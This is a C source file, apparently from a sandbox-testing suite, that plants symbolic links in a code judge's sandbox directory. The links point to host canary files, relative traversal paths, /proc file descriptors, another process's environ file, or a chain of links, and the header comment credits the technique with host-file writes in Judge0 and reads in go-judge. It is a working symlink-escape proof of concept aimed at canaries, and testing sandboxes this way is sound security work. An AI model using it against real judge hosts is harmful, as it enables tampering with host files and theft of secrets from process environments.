/* SPDX-License-Identifier: MIT */
/*
 * Leaves a symbolic link where the host expects a file or a directory of the program's. A host that opens it by its
 * name reads, writes or makes what the link points to: so Judge0's jobs wrote and owned files of its host, and
 * go-judge's copy-out read them.
 */
#include "attack.h"

#include <sys/stat.h>

static void lay(const char *target, const char *name)
{
    if (symlink(target, name) < 0)
        held_by_errno("symlink");
}

int main(int argc, char **argv)
{
    const char *to = argc > 2 ? argv[1] : "canary";
    const char *name = argc > 2 ? argv[2] : "out";
    char target[4096];
    char *slash;

    umask(0);
    if (chdir(scene("SN_BOX")) < 0)
        cannot("cannot enter the box: %s", strerror(errno));
    /* directories above the link are real ones */
    for (char *at = strdup(name); (slash = strchr(at, '/')); at = slash + 1) {
        *slash = '\0';
        if (mkdir(at, 0777) < 0 || chdir(at) < 0)
            cannot("mkdir %s: %s", at, strerror(errno));
        name += slash + 1 - at;
    }
    if (strcmp(to, "canary") == 0)
        snprintf(target, sizeof(target), "%s", scene("SN_CANARY"));
    else if (strcmp(to, "relative") == 0)
        snprintf(target, sizeof(target), "../../../../../../../..%s", scene("SN_CANARY"));
    else if (strcmp(to, "marker") == 0)
        snprintf(target, sizeof(target), "%s", scene("SN_MARKER"));
    else if (strcmp(to, "scene") == 0)
        snprintf(target, sizeof(target), "%s", scene("SN_SCENE"));
    else if (strcmp(to, "drop") == 0)
        snprintf(target, sizeof(target), "%s", scene("SN_DROP"));
    else if (strcmp(to, "drop-new") == 0)
        snprintf(target, sizeof(target), "%s/new", scene("SN_DROP"));
    else if (strcmp(to, "fd") == 0)
        snprintf(target, sizeof(target), "/proc/self/fd/%d", atoi(scene("SN_FDS")));
    else if (strcmp(to, "environ") == 0)
        snprintf(target, sizeof(target), "/proc/%s/environ", scene("SN_VICTIM_PID"));
    else if (strcmp(to, "root") == 0)
        snprintf(target, sizeof(target), "/proc/self/root%s", scene("SN_CANARY"));
    else if (strcmp(to, "cwd") == 0)
        snprintf(target, sizeof(target), "/proc/self/cwd/canary");
    else if (strcmp(to, "chain") == 0) {
        lay(scene("SN_CANARY"), "hop1");
        lay("hop1", "hop2");
        lay("./hop2", "hop3");
        snprintf(target, sizeof(target), "hop3");
    } else
        cannot("no link to %s", to);
    lay(target, name);
    held("%s is a link to %s", name, target);
}
